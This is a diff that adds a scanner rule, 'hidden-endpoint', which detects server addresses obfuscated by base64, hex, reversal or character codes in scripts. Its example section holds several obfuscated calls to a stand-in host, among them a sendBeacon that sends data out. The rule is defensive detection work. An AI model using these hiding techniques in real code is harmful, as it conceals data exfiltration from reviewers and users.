@@ -1,0 +1,70 @@
+import { type ScriptFacts } from '../../facts/javascript/query.ts';
+import { defineRule } from '../../rule.ts';
+import { backgroundExample, checkScripts } from './checkScripts.ts';
+import { hostOf, requestsOf, textsOf } from './network.ts';
+
+/** `http://`, `https://`, `ws://` and `wss://` in base64, hexadecimal and written backwards. */
+const ENCODED = /^(aHR0c(HM6Ly|DovL)|d3M6Ly|d3NzOi8v|(Ly8|Oi8v)[A-Za-z0-9+/]{8})[A-Za-z0-9+/_-]{4,}={0,2}$/;
+const HEX = /^(68747470(73)?3a2f2f|7773(73)?3a2f2f)[0-9a-f]{6,}$/i;
+const BACKWARDS = /^[\w./?=&%:-]{3,200}\/\/:s?ptth$/i;
+
+export const hiddenEndpoint = defineRule({
+  id: 'hidden-endpoint',
+  title: 'The address of a server is hidden by encoding it',
+  severity: 'high',
+  confidence: 'medium',
+  category: 'code',
+  applies: 'both',
+  cwe: 'CWE-506',
+  references: ['https://attack.mitre.org/techniques/T1027/'],
+  why: 'An address is written in code so that it does not show. It keeps reviewers and scanners from seeing with whom the program talks.',
+  remedy: 'Write addresses plainly.',
+  check: checkScripts(function* ({ script, hit }) {
+    const told = new Set<string>();
+    for (const request of requestsOf(script)) {
+      const host = hostOf(request.to);
+      // Known only because it was decoded: nowhere in the script does it stand in plain.
+      if (host === undefined || told.has(host) || !host.includes('.') || standsPlain(script, host)) continue;
+      told.add(host);
+      yield hit(request.value, { confidence: 'high', message: `Decoded, it is ${request.to.slice(0, 100)}.` });
+    }
+    for (const { text, value } of textsOf(script)) {
+      const address = decoded(text);
+      const host = address === undefined ? undefined : hostOf(address);
+      if (address === undefined || host === undefined || told.has(host)) continue;
+      told.add(host);
+      yield hit(value, { message: `Decoded, it is ${address.slice(0, 100)}.`, ...(standsPlain(script, host) ? { severity: 'low' as const } : {}) });
+    }
+  }),
+  examples: {
+    bad: [
+      backgroundExample('fetch(atob("aHR0cHM6Ly94LmV4YW1wbGUvYXBp"));'),
+      backgroundExample('const h = "68747470733a2f2f782e6578616d706c652f63"; let u = ""; for (let i = 0; i < h.length; i += 2) u += String.fromCharCode(parseInt(h.substr(i, 2), 16)); fetch(u);'),
+      backgroundExample('const a = "gifnoc/elpmaxe.x//:sptth".split("").reverse().join(""); const x = new XMLHttpRequest(); x.open("GET", a); x.send();'),
+      backgroundExample('navigator.sendBeacon(String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47, 120, 46, 101, 120, 97, 109, 112, 108, 101), d);'),
+    ],
+    good: [
+      backgroundExample('fetch("https://api.example.com/" + path); const img = atob("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAA");'),
+      backgroundExample('const base = ["https://", "api.example.com"].join(""); fetch(base + "/v1");'),
+      backgroundExample('const u = atob(settings.url); fetch(u);'),
+    ],
+  },
+});
+
+function standsPlain(script: ScriptFacts, host: string): boolean {
+  return script.strings.some((text) => text.toLowerCase().includes(host));
+}
+
+function decoded(text: string): string | undefined {
+  if (text.length < 14 || text.length > 400) return undefined;
+  if (HEX.test(text)) return text.replace(/../g, (pair) => String.fromCharCode(Number.parseInt(pair, 16)));
+  if (BACKWARDS.test(text)) return [...text].toReversed().join('');
+  if (!ENCODED.test(text)) return undefined;
+  try {
+    const plain = atob(text.replaceAll('-', '+').replaceAll('_', '/'));
+    return /^(https?|wss?):\/\/[\w.:-]+/i.test(plain) ? plain : undefined;
+  } catch (error) {
+    if (error instanceof DOMException) return undefined; // not base64 after all
+    throw error;
+  }
+}
